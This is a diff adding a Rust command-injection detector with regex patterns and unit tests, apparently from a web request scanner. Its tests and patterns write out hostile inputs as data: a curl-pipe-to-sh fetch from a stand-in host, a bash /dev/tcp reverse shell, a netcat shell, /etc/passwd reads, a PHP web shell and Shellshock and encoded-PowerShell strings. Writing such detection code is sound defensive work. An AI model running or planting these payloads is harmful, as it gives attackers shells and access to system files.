@@ -1,0 +1,184 @@
+//! Shell commands behind a character that ends or embeds a command (sh, cmd.exe, PowerShell).
+
+use std::borrow::Cow;
+use std::sync::LazyLock;
+
+use regex::bytes::Regex;
+
+use super::{Classes, Detector, Hit, Kind, Subject, Tokens};
+use crate::catalogue::DetectorInfo;
+use crate::pattern;
+
+pub(super) const DETECTOR: Detector = Detector { info: &INFO, wants, look };
+
+const INFO: DetectorInfo = DetectorInfo {
+    name: "command_injection",
+    what: "a shell metacharacter followed by a command, or code for a script engine on the server",
+    why: "a value that becomes part of a command line runs the attacker's programs",
+    example: "127.0.0.1; cat /etc/passwd",
+};
+
+/// What ends a command, or begins another inside it.
+const BREAK: &str = r#"(?:[;|&\x60\n\r]|\$\(|<\(|>\(|&&|\|\|)[\s'"(){]*(?:(?:sudo|exec|nohup|time|env|command|builtin|start|call|do|then)\s+)?(?:/(?:usr/)?(?:local/)?s?bin/|[a-z]:\\windows\\system32\\)?"#;
+/// Commands whose names are hardly words of a text.
+const SURE: &str = r#"(?:whoami|wget|curl|uname|ifconfig|ipconfig|netstat|nslookup|traceroute|tracert|netcat|telnet|passwd|systeminfo|tasklist|nproc|lscpu|powershell(?:\.exe)?|pwsh|cmd(?:\.exe)?\s*/[ck]|chmod|chown|useradd|adduser|crontab|killall|base64|xxd|perl|python[23]?|php|ruby|bash|zsh|ksh|csh|dash|busybox|nc(?:\.\w+)?|ncat|socat|tftp|scp|rundll32|regsvr32|certutil|bitsadmin|mshta|wmic|schtasks|printenv|lsof|dmesg|pwd|ls|netsh|ssh|gcc|awk|sed|dir|reboot|shutdown|halt|vol|ver|getent|hostname|mknod|phpinfo\(\)|rm|cp|mv|ps|df|du|lsb_release)\b"#;
+/// Commands whose names are words as well: they need an argument of a command, or nothing behind them.
+const UNSURE: &str = r#"(?:(?:id|w|who|date|env|set|dir|type|sh|cat|users|last|ver)\s*(?:['"\x60)#;|}\n]|&&|&?$)|(?:cat|head|tail|more|less|type|nl|tac|sort|strings|find|grep|touch|mkdir|kill|source|del|copy|move|dir|sh|net|sleep|timeout|ping|host|dig|echo|print|printf|eval|export|read|alias|which|who|id|env|set|fetch|make|install|nano|vi|vim|ftp|tee|cut|file|stat|mount|ln|exit|waitfor)\s+(?:-{1,2}\w|/\w|\.{0,2}/|\\|[~$\x60*]|\d+\b|[a-z]:\\|['"]?[\w.-]*[./\\][\w./\\*?$-]*|user\b|localgroup\b|view\b|%\w+%|>|\S+\s*(?:>|\||;|&&|\x60|\)|$)))"#;
+
+static COMMAND: LazyLock<Regex> = LazyLock::new(|| pattern(&format!("(?i){BREAK}(?:{SURE}|{UNSURE})")));
+/// A value that is a command line from its first word.
+static LEADING: LazyLock<Regex> = LazyLock::new(|| {
+    pattern(
+        r#"(?i)^\s*(?:/(?:usr/)?(?:local/)?s?bin/\w+|(?:cmd(?:\.exe)?\s*/[ck]\b|powershell(?:\.exe)?\s+-\w)|(?:wget|curl)\s+(?:-\S+\s+)*['"]?(?:https?|ftp)://|(?:cat|tail|head|less|more|ls|nc|rm|chmod|type|ping|net)\s+(?:-\w+\s+)?(?:/(?:etc|proc|var|bin|root|tmp)\b|-\w+\s+/|c:\\|-[nc]\s*\d+\s+[\d.]+\s*$))"#,
+    )
+});
+/// Marks of a shell or script engine that need no break before them.
+static MARK: LazyLock<Regex> = LazyLock::new(|| {
+    pattern(
+        r#"(?i)(?:\(\)\s*\{\s*:?\s*;?.{0,20}\}\s*;|\$\{IFS\b|\$IFS\b|/dev/(?:tcp|udp)/[\w.]+/\d|/bin/(?:ba|z|k|c|da)?sh\b\s*(?:-[ic]|[;|'"\x60)]|$|<|&)|\bpowershell(?:\.exe)?\s+(?:-\S+\s+)*-(?:e|en|enc|encodedcommand|c|command|nop|w|ep|exec\w*)\b|\bcmd(?:\.exe)?\s+/[ck]\s|\biex\s*\(|\binvoke-(?:expression|webrequest|command|mimikatz)\b|\bnew-object\s+(?:system\.)?net\.|downloadstring\s*\(|<\?(?:php|=)?\s.{0,80}?\b(?:system|exec|passthru|shell_exec|eval|popen|proc_open|assert|base64_decode|include|require|phpinfo|file_get_contents|\$_(?:get|post|request|cookie|server))\b|\b(?:system|exec|passthru|shell_exec|popen|proc_open|os\.popen|os\.system|subprocess\.\w+|child_process\S{0,20}exec\w*)\s*\(\s*\\?['"][^'"]{1,200}['"]|\bRuntime\.getRuntime\(\)\.exec|\b__import__\s*\(\s*['"]os|\bnc(?:at)?\s+(?:-[a-z]+\s+)+\S*(?:/bin/|cmd|\d+\.\d+))"#,
+    )
+});
+
+fn wants(subject: &Subject<'_>) -> bool {
+    subject.kind != Kind::Structured && (subject.tokens.any(Tokens::SHELL) || subject.classes.any(Classes::SLASH))
+}
+
+fn look(subject: &Subject<'_>) -> Option<Hit> {
+    if let Some(found) = MARK.find(subject.bytes) {
+        return Some(Hit::at(&found, 0.92, "shell or script code"));
+    }
+    // The text of an uploaded file may well be a script; only code for the server's own engine counts there.
+    if subject.kind == Kind::File {
+        return None;
+    }
+    let leading = LEADING.find(subject.bytes).map(|found| Hit::at(&found, 0.86, "command line"));
+    let plain = COMMAND.find(subject.bytes).map(|found| weigh(subject, subject.bytes, found.range()));
+    let bare = unquoted(subject.bytes);
+    let hidden = match &bare {
+        Cow::Owned(text) if plain.is_none() => COMMAND.find(text).map(|found| {
+            let hit = weigh(subject, text, found.range());
+            Hit { range: 0..subject.bytes.len().min(120), ..hit }
+        }),
+        _ => None,
+    };
+    Hit::better(Hit::better(leading, plain), hidden)
+}
+
+/// How sure a break with a command behind it makes us, by what the break is and what stands around it.
+fn weigh(subject: &Subject<'_>, bytes: &[u8], range: std::ops::Range<usize>) -> Hit {
+    let found = bytes.get(range.clone()).unwrap_or_default();
+    let first = found.first().copied().unwrap_or_default();
+    let before = bytes.get(..range.start).unwrap_or_default();
+    let after = bytes.get(range.end..).unwrap_or_default();
+    let long_text = bytes.iter().filter(|byte| **byte == b' ').count() > 12;
+    let line_break = matches!(first, b'\n' | b'\r');
+    // Markdown quotes code in backticks, and texts have many lines: a command there is talked about, not injected.
+    let closed = first == b'`' && after.contains(&b'`') && before.iter().any(u8::is_ascii_alphabetic);
+    let prose = matches!(subject.kind, Kind::Json | Kind::Text | Kind::Parameter);
+    // `a & b`, `x | y` with spaces on both sides and `; word` occur in texts and user agents.
+    let spaced = before.last() == Some(&b' ') && found.get(1) == Some(&b' ');
+    // In a query string that was not split, `&name=` is the next parameter.
+    let parameter = first == b'&' && after.first() == Some(&b'=');
+    let confidence = if parameter {
+        0.2
+    } else if subject.kind == Kind::Agent || subject.kind == Kind::Header {
+        if first == b';' { 0.4 } else { 0.8 }
+    } else if prose && (closed || line_break) {
+        if line_break && !long_text && subject.kind != Kind::Text && bytes.len() < 80 { 0.82 } else { 0.45 }
+    } else if prose && long_text {
+        if spaced { 0.4 } else { 0.65 }
+    } else {
+        0.9
+    };
+    Hit { confidence, range, note: "command behind a shell metacharacter" }
+}
+
+/// The text without what shells drop inside words: quotes, backslashes, carets, `$@`, `$1`.
+fn unquoted(bytes: &[u8]) -> Cow<'_, [u8]> {
+    let breaks = |byte: &u8| matches!(byte, b';' | b'|' | b'&' | b'`' | b'$' | b'\n');
+    if !bytes.iter().any(breaks)
+        || memchr::memchr2(b'\'', b'"', bytes).is_none() && memchr::memchr3(b'\\', b'^', b'$', bytes).is_none()
+    {
+        return Cow::Borrowed(bytes);
+    }
+    let mut out = Vec::with_capacity(bytes.len());
+    let mut rest = bytes;
+    while let Some((byte, tail)) = rest.split_first() {
+        rest = tail;
+        match byte {
+            b'\'' | b'"' | b'\\' | b'^' => {}
+            b'$' if matches!(tail.first(), Some(b'@' | b'*' | b'0'..=b'9')) => rest = tail.get(1..).unwrap_or_default(),
+            b'{' if matches!(out.last(), Some(b';' | b'|' | b'&')) => {}
+            other => out.push(*other),
+        }
+    }
+    if out.len() == bytes.len() { Cow::Borrowed(bytes) } else { Cow::Owned(out) }
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+    use crate::detect::examples::{must_fire, must_not_fire};
+
+    #[test]
+    fn commands_are_found() {
+        must_fire(
+            &DETECTOR,
+            Kind::Parameter,
+            &[
+                "127.0.0.1; cat /etc/passwd",
+                "x|id",
+                "x && whoami",
+                "`id`",
+                "$(curl http://evil.example/x.sh|sh)",
+                "a;c'a't /etc/passwd",
+                "x;w\\get http://evil.example",
+                "|| ping -c 10 127.0.0.1",
+                "& dir c:\\",
+                "file.txt;ls -la",
+                "a\nid\n",
+                "; sleep 10",
+                ";cat${IFS}/etc/passwd",
+                "powershell -enc SQBFAFgA",
+                "cmd /c whoami",
+                "/bin/sh -c id",
+                "bash -i >& /dev/tcp/10.0.0.1/4242 0>&1",
+                "<?php system($_GET['c']); ?>",
+                "system('id')",
+                "; nc -e /bin/sh 10.0.0.1 4444",
+            ],
+        );
+        must_fire(&DETECTOR, Kind::Agent, &["() { :;}; /bin/bash -c 'cat /etc/passwd'"]);
+        must_fire(&DETECTOR, Kind::File, &["GIF89a<?php system($_GET['c']); ?>"]);
+    }
+
+    #[test]
+    fn ordinary_values_are_let_pass() {
+        must_not_fire(
+            &DETECTOR,
+            Kind::Json,
+            &[
+                "cats & dogs; find out more",
+                "salt & pepper",
+                "Tom & Jerry | Cat & Mouse",
+                "call me at 10; date to be fixed",
+                "use `ls -la` to list files",
+                "first do this;\nthen make the bed",
+                "R&D; sort by name",
+                "a; b; c",
+                "price < 10 | price > 20",
+                "text/html; charset=utf-8",
+                "https://example.com/?a=1&id=2&type=3&sort=name",
+                "const x = () => { return 1; }",
+                "if (a && b) { c(); }",
+                "Steps:\n1. open the shop\n2. ping me on chat when you are there",
+            ],
+        );
+        must_not_fire(
+            &DETECTOR,
+            Kind::Agent,
+            &["Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko)"],
+        );
+        must_not_fire(&DETECTOR, Kind::File, &["#!/bin/bash\nset -e; curl http://x | sh; cat /etc/passwd\n"]);
+    }
+}
